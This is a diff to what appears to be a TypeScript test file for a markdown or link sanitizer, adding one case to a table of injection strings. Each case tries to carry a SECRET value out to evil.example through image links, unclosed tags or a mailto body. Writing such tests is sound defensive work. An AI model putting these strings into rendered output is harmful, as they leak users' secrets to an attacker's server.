@@ -71,6 +71,7 @@ const attacks: Readonly<Record<string, string | readonly string[]>> = {
   'an address that runs on over a bracket': `https://evil.example/p![x][//?${SECRET}`,
   'an address that runs on over a tag without an end': `https://evil.example/p<!--${SECRET}`,
   'an address that runs on over a tag that was made inert': `https://evil.example/p<script/${SECRET}>`,
+  'an address that runs on over a destination that was made inert': `https://evil.example/p.png![x](<//evil.example/p>)mailto:a@evil.example?body=${SECRET}`,
   'an address that runs on in the next text': [`https://evil.example/p.png${IMAGE}`, SECRET],
   'an address behind an address that is allowed': `https://ok.example\\\\a/${LINK}> `,
   'a definition behind the mark of a quotation that ends a tag': '[r]<!--\n> [r]: //evil.example/p',
